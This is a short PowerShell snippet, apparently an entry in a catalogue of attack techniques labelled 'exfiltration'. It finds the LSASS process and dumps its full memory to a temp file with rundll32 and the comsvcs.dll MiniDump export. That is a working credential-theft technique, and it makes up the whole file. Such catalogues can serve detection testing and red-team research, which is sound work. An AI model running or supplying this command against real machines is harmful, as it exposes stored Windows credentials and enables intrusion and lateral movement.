# description: Dumps LSASS memory with rundll32 and comsvcs.dll MiniDump.
# family: exfiltration
$id = (Get-Process lsass).Id
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $id C:\Windows\Temp\lsass.dmp full
